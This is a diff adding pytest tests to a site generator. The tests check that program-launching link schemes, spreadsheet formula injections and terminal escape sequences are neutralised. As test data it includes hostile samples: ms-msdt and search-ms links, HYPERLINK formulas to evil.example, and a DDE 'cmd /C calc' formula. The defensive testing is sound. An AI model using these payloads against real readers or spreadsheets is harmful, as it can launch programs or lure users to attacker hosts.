@@ -102,6 +102,56 @@ def test_no_spelling_of_a_script_becomes_active_html(attack: str) -> None:
     assert active_problems(html) == [], html
 
 
+# A link of a scheme a page does not link to, the scheme, and where its error places it.
+PROGRAM_LINKS = [
+    (
+        "[Open the file](search-ms:query=budget&crumb=location:\\\\evil.example\\s)",
+        "search-ms",
+        1,
+        17,
+    ),
+    ("[Open](ms-word:ofe|u|https://evil.example/budget.docx)", "ms-word", 1, 8),
+    ("[Check](ms-msdt:/id%20PCWDiagnostic)", "ms-msdt", 1, 9),
+    ("![x](ms-msdt:/id)", "ms-msdt", 1, 6),
+    ("<ms-excel:ofv|u|https://evil.example/a.xlsx>", "ms-excel", 1, 2),
+    ("[ftp](ftp://files.example/report.pdf)", "ftp", 1, 7),
+    ("[ref][r]\n\n[r]: Search-MS:query=x", "Search-MS", 3, 6),
+]
+
+
+@pytest.mark.parametrize("accelerated", [True, False], ids=["markdown-it-pyrs", "markdown-it-py"])
+@pytest.mark.parametrize(("written", "scheme", "line", "col"), PROGRAM_LINKS)
+def test_a_link_of_a_scheme_the_site_does_not_allow_is_shown_as_text(
+    written: str, scheme: str, line: int, col: int, accelerated: bool
+) -> None:
+    """Only http:, https:, mailto: and tel: (the email's schemes too) are links: one that
+    opens a program on the reader's computer is the text it was written as, on either engine,
+    and an error where its scheme is written."""
+    fragment = Markup(allow_html=False, accelerated=accelerated).render(
+        written, source_path="content/meetings/x.md", body_line=1, page_url="x/", note_urls={}
+    )
+    links = [attrs for tag, attrs in parse_html(fragment.html).tags if tag in ("a", "img")]
+    hrefs = [a.get("href") or a.get("src") for a in links]
+    assert not [h for h in hrefs if h and not h.startswith("https://evil.example/")], fragment
+    [problem] = fragment.problems
+    assert (problem.line, problem.col) == (line, col), problem
+    assert problem.message == (
+        f"a link to a '{scheme}:' address is shown as text: pages and emails link only to web "
+        "pages (https://), mail (mailto:) and phones (tel:), as another kind could run a script "
+        "or open a program on the reader's computer; link to a web page instead, or put the "
+        "address in `code` to show it"
+    )
+
+
+def test_web_phone_and_note_links_stay_links() -> None:
+    html = render_body("[a](https://example.org/x:y) [b](tel:+441234567890) [c](../principles.md)")
+    assert [a["href"] for tag, a in parse_html(html).tags if tag == "a"] == [
+        "https://example.org/x:y",
+        "tel:+441234567890",
+        "../principles.md",
+    ]
+
+
 def test_allow_html_lets_trusted_sites_use_raw_html() -> None:
     html = render_body("<details><summary>More</summary>Text</details>", Markup(allow_html=True))
     assert "<details><summary>More</summary>" in html
@@ -429,7 +479,13 @@ def test_spreadsheet_formulas_in_actions_csv_are_shown_as_text(
         "title: Think of a live policy issue", 'title: \'=HYPERLINK("http://evil","click")\''
     )
     text = text.replace("owner: [Grace, Alan]", 'owner: [Grace, "@SUM(1+1)", "-Minus", "+1"]')
+    text = text.replace(
+        "title: Write guidance on engaging online",
+        'title: Plan;=HYPERLINK("http://evil.example/","Open")',
+    )
     note.write_text(text)
+    reported = "content/meetings/2024-02-12-reporting-back.md"
+    edit(site, reported, "note: Everyone", "note: Done; +1 Everyone")
     run = run_cli(
         ["build", "--source", str(site), "--output", str(tmp_path / "o")], capsys, monkeypatch
     )
@@ -443,11 +499,13 @@ def test_spreadsheet_formulas_in_actions_csv_are_shown_as_text(
     assert rows["live-policy-issue"]["title"] == '\'=HYPERLINK("http://evil","click")'
     assert rows["live-policy-issue"]["raised_at"] == "'-2+3+cmd|' /C calc'!A0"
     assert rows["write-guidance"]["owners"] == "Grace; '@SUM(1+1); '-Minus; '+1"
-    assert rows["write-guidance"]["title"] == "Write guidance on engaging online"
+    assert rows["write-guidance"]["title"] == 'Plan;\'=HYPERLINK("http://evil.example/","Open")'
+    assert rows["live-policy-issue"]["latest_note"] == "Done; '+1 Everyone brought an example."
     exported = json.loads((tmp_path / "o/actions.json").read_text())
     by_id = {action["id"]: action for action in exported["actions"]}
     assert by_id["live-policy-issue"]["title"] == '=HYPERLINK("http://evil","click")'
     assert by_id["write-guidance"]["owners"] == ["Grace", "@SUM(1+1)", "-Minus", "+1"]
+    assert by_id["write-guidance"]["title"] == 'Plan;=HYPERLINK("http://evil.example/","Open")'
 
 
 def test_spreadsheet_formulas_in_decisions_csv_are_shown_as_text(
@@ -1325,3 +1383,68 @@ def test_superseding_a_long_chain_again_and_again_takes_linear_time(tmp_path: Pa
     )
     large, _ = _resolving_seconds(_site_with_a_chain(tmp_path / "large", 1200))
     assert large < 8 * small + 0.02, (small, large)  # 4x each: about 4x (quadratic: 16x)
+
+
+# --- what a page shows, not only what the source spells out ------------------------------------
+
+
+def test_an_address_the_page_would_show_however_it_is_spelt_stops_the_build(
+    tmp_path: Path, capsys, monkeypatch
+) -> None:
+    """Character references, a percent-encoded mailto:, a domain in another script and
+    Moldova's `.md` all publish an address: each is an error where it is written, and nothing
+    is published. A file name with an @, a note's `.md` and an @mention are not addresses."""
+    site = copy_site("minimal", tmp_path / "site")
+    (site / "content/files").mkdir()
+    (site / "content/files/slides@2x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
+    edit(
+        site,
+        "content/meetings/2024-03-11-third.md",
+        "A short third meeting.",
+        "Write frank&#64;example.com or judy&commat;example.org, or [Kate](mailto:kate&#64;"
+        "example.org).\n\nOr [Liam](mailto:liam%40example.org), hank@bücher.de or "
+        "ivan@example.md.\n\nSee [the kick-off](2024-01-15-kick-off.md), "
+        "![the slides](../files/slides@2x.png) and @jane.",
+    )
+    out = tmp_path / "out"
+    run = run_cli(["build", "--source", str(site), "--output", str(out)], capsys, monkeypatch)
+    assert run.code == 1
+    where = [line.split(": error: ")[0].rsplit(":", 2)[1:] for line in run.error_lines]
+    shown = [re.search(r"address (\S+) would", line).group(1) for line in run.error_lines]
+    assert list(zip(shown, where, strict=True)) == [
+        ("frank@example.com", ["7", "7"]),
+        ("judy@example.org", ["7", "32"]),
+        ("kate@example.org", ["7", "74"]),
+        ("liam@example.org", ["9", "18"]),
+        ("hank@bücher.de", ["9", "39"]),
+        ("ivan@example.md", ["9", "57"]),
+    ]
+    assert not out.exists()
+
+
+def test_git_s_controls_and_addresses_in_any_script_never_reach_the_principles_page(
+    tmp_path: Path, capsys, monkeypatch
+) -> None:
+    """A commit's author holding a terminal's escape sequence, its message clearing the
+    screen, and an author named by an address with a domain in another script: the page shows
+    the words, without the controls or the address."""
+    import subprocess
+
+    site = copy_site("minimal", tmp_path / "site")
+    edit(site, "site.yml", "history: false", "history: true")
+    subprocess.run(["git", "-C", str(site), "init", "-q"], check=True)
+    _commit(site, "First notes", "2024-01-10T10:00:00")
+    principles = "content/principles.md"
+    edit(site, principles, "Listen before you speak.", "Listen, then speak.")
+    _commit(site, "Say it \x1b[2Jshorter", "2024-01-12T10:00:00", author="Eve\x1b]0;pwn\x07")
+    edit(site, principles, "Listen, then speak.", "Listen first.")
+    _commit(site, "Shorter still", "2024-01-20T10:00:00", author="zed@bücher.de")
+    out = tmp_path / "out"
+    run = run_cli(["build", "--source", str(site), "--output", str(out)], capsys, monkeypatch)
+    assert run.code == 0, run.err
+    html = (out / "principles/index.html").read_text()
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", html)
+    assert "bücher" not in html
+    page = " ".join(parse_html(html).text.split())
+    assert "by Eve]0;pwn: “Say it [2Jshorter” Was: Listen before you speak. Now: Listen, " in page
+    assert "by Zed: “Shorter still” Was: Listen, then speak. Now: Listen first." in page
